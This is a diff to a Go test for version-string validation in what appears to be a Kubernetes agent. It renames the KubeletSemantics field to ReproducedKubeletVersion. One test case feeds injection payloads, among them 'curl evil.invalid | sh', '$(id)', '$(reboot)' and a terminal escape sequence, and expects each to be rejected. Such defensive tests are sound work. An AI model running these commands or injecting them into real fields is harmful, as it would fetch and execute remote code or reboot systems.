@@ -14,15 +14,15 @@ func TestCheckedVersion(t *testing.T) {
 	}{
 		{
 			name: "versions",
-			in:   v1alpha1.Version{AgentVersion: "v0.1.0-rc.1+abc", ServedVersion: "v1alpha1", KubeletSemantics: "v1.36.3", NodeKubeletVersion: "1.35.1", GoVersion: "go1.26.8"},
-			want: v1alpha1.Version{AgentVersion: "v0.1.0-rc.1+abc", ServedVersion: "v1alpha1", KubeletSemantics: "v1.36.3", NodeKubeletVersion: "1.35.1", GoVersion: "go1.26.8"},
+			in:   v1alpha1.Version{AgentVersion: "v0.1.0-rc.1+abc", ServedVersion: "v1alpha1", ReproducedKubeletVersion: "v1.36.3", NodeKubeletVersion: "1.35.1", GoVersion: "go1.26.8"},
+			want: v1alpha1.Version{AgentVersion: "v0.1.0-rc.1+abc", ServedVersion: "v1alpha1", ReproducedKubeletVersion: "v1.36.3", NodeKubeletVersion: "1.35.1", GoVersion: "go1.26.8"},
 		},
 		{
 			// make build from a tree with no tag: the plugin and the
 			// agent of one tree are the same release.
 			name: "a build of an untagged commit",
-			in:   v1alpha1.Version{AgentVersion: "2ee3766-dirty", KubeletSemantics: "v1.36.3"},
-			want: v1alpha1.Version{AgentVersion: "2ee3766-dirty", KubeletSemantics: "v1.36.3"},
+			in:   v1alpha1.Version{AgentVersion: "2ee3766-dirty", ReproducedKubeletVersion: "v1.36.3"},
+			want: v1alpha1.Version{AgentVersion: "2ee3766-dirty", ReproducedKubeletVersion: "v1.36.3"},
 		},
 		{
 			name: "hex that is not a commit's",
@@ -36,9 +36,9 @@ func TestCheckedVersion(t *testing.T) {
 		},
 		{
 			name: "commands and text",
-			in: v1alpha1.Version{AgentVersion: "v1.2.3; curl evil.invalid | sh", ServedVersion: "v1alpha1 $(id)", KubeletSemantics: "$(reboot)",
+			in: v1alpha1.Version{AgentVersion: "v1.2.3; curl evil.invalid | sh", ServedVersion: "v1alpha1 $(id)", ReproducedKubeletVersion: "$(reboot)",
 				NodeKubeletVersion: " v1.36.3", GoVersion: "go1.26.8\x1b[2J"},
-			want: v1alpha1.Version{AgentVersion: UnknownVersion, ServedVersion: UnknownVersion, KubeletSemantics: UnknownVersion,
+			want: v1alpha1.Version{AgentVersion: UnknownVersion, ServedVersion: UnknownVersion, ReproducedKubeletVersion: UnknownVersion,
 				NodeKubeletVersion: UnknownVersion, GoVersion: UnknownVersion},
 		},
 		{
